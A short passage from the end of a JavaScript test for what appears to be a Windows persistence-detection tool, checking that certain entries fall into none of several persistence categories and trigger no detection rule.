  assert.equal(mine.filter((r) => ['BITS jobs', 'Service failure', 'COM hijacks', 'Winlogon Notify'].includes(r.category)), []);
  const rules = loadRules();
  assert.equal(mine.flatMap((r) => fires(rules, r).map((h) => `${h}: ${r.entry}`)), [], 'no rule, at any level');
});

test.run();
